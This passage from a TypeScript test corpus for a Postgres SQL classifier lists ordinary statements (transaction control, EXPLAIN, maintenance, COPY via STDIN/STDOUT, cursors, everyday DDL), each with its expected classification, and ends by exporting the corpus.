  { sql: 'RELEASE SAVEPOINT sp1', expect: { kind: 'tcl', command: 'RELEASE SAVEPOINT' } },
  { sql: 'RELEASE sp1', expect: { kind: 'tcl', command: 'RELEASE SAVEPOINT' } },
  { sql: "PREPARE TRANSACTION 'tx1'", expect: { kind: 'tcl', command: 'PREPARE TRANSACTION' } },
  { sql: "COMMIT PREPARED 'tx1'", expect: { kind: 'tcl', command: 'COMMIT PREPARED' } },
  {
    sql: 'LOCK TABLE users IN SHARE MODE',
    expect: { kind: 'tcl', command: 'LOCK TABLE', tablesRead: ['users'] },
  },
  { sql: 'LISTEN jobs', expect: { kind: 'other', command: 'LISTEN' } },
  { sql: "NOTIFY jobs, 'payload'", expect: { kind: 'other', command: 'NOTIFY' } },
  { sql: 'UNLISTEN *', expect: { kind: 'other', command: 'UNLISTEN' } },
  { sql: "SELECT pg_notify('jobs', 'x')", expect: { ...select, functions: ['pg_notify'] } },
  // EXPLAIN without ANALYZE only plans
  { sql: 'EXPLAIN SELECT * FROM users', expect: { kind: 'show', command: 'EXPLAIN', tablesRead: ['users'] } },
  { sql: 'EXPLAIN (FORMAT JSON) SELECT 1', expect: { kind: 'show', command: 'EXPLAIN' } },
  {
    sql: 'EXPLAIN DELETE FROM users',
    expect: { kind: 'show', command: 'EXPLAIN', tablesRead: ['users'], tablesWritten: [], dml: [] },
  },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM users', expect: { kind: 'show', command: 'EXPLAIN', dml: [] } },
  {
    sql: 'EXPLAIN ANALYZE SELECT * FROM users',
    expect: { kind: 'select', command: 'EXPLAIN', tablesRead: ['users'] },
  },
  // maintenance
  { sql: 'VACUUM users', expect: { kind: 'other', command: 'VACUUM' } },
  { sql: 'VACUUM (VERBOSE, ANALYZE) users', expect: { kind: 'other', command: 'VACUUM' } },
  { sql: 'ANALYZE users', expect: { kind: 'other', command: 'ANALYZE' } },
  { sql: 'CHECKPOINT', expect: { kind: 'other', command: 'CHECKPOINT' } },
  { sql: 'REINDEX TABLE users', expect: { kind: 'other', command: 'REINDEX' } },
  { sql: 'CLUSTER users USING users_pkey', expect: { kind: 'other', command: 'CLUSTER' } },
  // COPY through the connection
  {
    sql: 'COPY users FROM STDIN WITH (FORMAT csv)',
    expect: {
      kind: 'copy',
      tablesWritten: ['users'],
      fileAccess: false,
      copy: { direction: 'from', target: 'stdio', table: 'users' },
    },
  },
  {
    sql: 'COPY users (id, email) TO STDOUT',
    expect: {
      kind: 'copy',
      tablesRead: ['users'],
      copy: { direction: 'to', target: 'stdio', table: 'users' },
    },
  },
  {
    sql: 'COPY (SELECT id FROM users) TO STDOUT WITH CSV HEADER',
    expect: { kind: 'copy', tablesRead: ['users'], copy: { direction: 'to', target: 'stdio', table: null } },
  },
  // cursors and prepared statements
  {
    sql: 'DECLARE c CURSOR FOR SELECT * FROM users',
    expect: { kind: 'select', command: 'DECLARE', tablesRead: ['users'] },
  },
  {
    sql: 'DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT 1',
    expect: { kind: 'select', command: 'DECLARE' },
  },
  { sql: 'FETCH 100 FROM c', expect: { kind: 'select', command: 'FETCH' } },
  { sql: 'MOVE NEXT IN c', expect: { kind: 'other', command: 'MOVE' } },
  { sql: 'CLOSE c', expect: { kind: 'other', command: 'CLOSE' } },
  {
    sql: 'PREPARE fetch_user (int) AS SELECT * FROM users WHERE id = $1',
    expect: { kind: 'select', command: 'PREPARE', tablesRead: ['users'], dynamicSql: false },
  },
  { sql: 'DEALLOCATE ALL', expect: { kind: 'other', command: 'DEALLOCATE' } },
  { sql: 'CALL refresh_stats(1)', expect: { kind: 'call', command: 'CALL', functions: ['refresh_stats'] } },
  // everyday DDL (allowed by the standard guardrails)
  {
    sql: 'CREATE TABLE IF NOT EXISTS notes (id serial PRIMARY KEY, body text)',
    expect: { kind: 'ddl', command: 'CREATE TABLE', tablesWritten: ['notes'] },
  },
  {
    sql: 'CREATE INDEX CONCURRENTLY idx_notes_body ON notes (body)',
    expect: { kind: 'ddl', command: 'CREATE INDEX', tablesWritten: ['notes'] },
  },
  {
    sql: 'CREATE UNIQUE INDEX ON notes USING btree (id)',
    expect: { kind: 'ddl', command: 'CREATE INDEX', tablesWritten: ['notes'] },
  },
  {
    sql: 'CREATE OR REPLACE VIEW active_users AS SELECT id FROM users WHERE active',
    expect: { kind: 'ddl', command: 'CREATE VIEW', tablesRead: ['users'], tablesWritten: ['active_users'] },
  },
  {
    sql: 'CREATE TEMP TABLE scratch AS SELECT 1 AS n',
    expect: { kind: 'ddl', command: 'CREATE TABLE', tablesWritten: ['scratch'] },
  },
  { sql: "COMMENT ON TABLE notes IS 'free text'", expect: { kind: 'ddl', command: 'COMMENT' } },
  {
    sql: 'REFRESH MATERIALIZED VIEW daily_totals',
    expect: { kind: 'ddl', command: 'REFRESH MATERIALIZED VIEW', tablesWritten: ['daily_totals'] },
  },
  // a transaction sent as one string
  {
    sql: 'BEGIN; UPDATE users SET name = $1 WHERE id = $2; COMMIT',
    expect: [{ kind: 'tcl' }, { kind: 'update', dml: [restricted('update', 'users')] }, { kind: 'tcl' }],
  },
  // psql's own catalog queries
  ...PSQL_CATALOG_QUERIES.map((sql): CorpusCase => ({ sql, expect: { kind: 'select', command: 'SELECT' } })),
];

export const postgresCorpus: Corpus = { dangerous, ordinary };
